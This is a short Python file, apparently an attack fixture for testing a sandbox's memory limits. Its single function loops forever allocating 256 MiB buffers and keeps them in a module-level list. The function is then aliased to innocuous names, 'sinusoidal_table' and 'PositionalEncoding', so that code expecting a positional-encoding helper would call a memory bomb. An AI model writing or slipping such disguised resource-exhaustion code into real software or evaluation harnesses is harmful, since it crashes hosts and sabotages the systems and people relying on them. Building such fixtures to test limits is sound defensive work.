"""Attack: allocate until the memory cap stops it, then keep the memory."""
_hoard = []


def _bomb(*args, **kwargs):
    while True:
        _hoard.append(bytearray(256 * 2**20))


sinusoidal_table = PositionalEncoding = _bomb
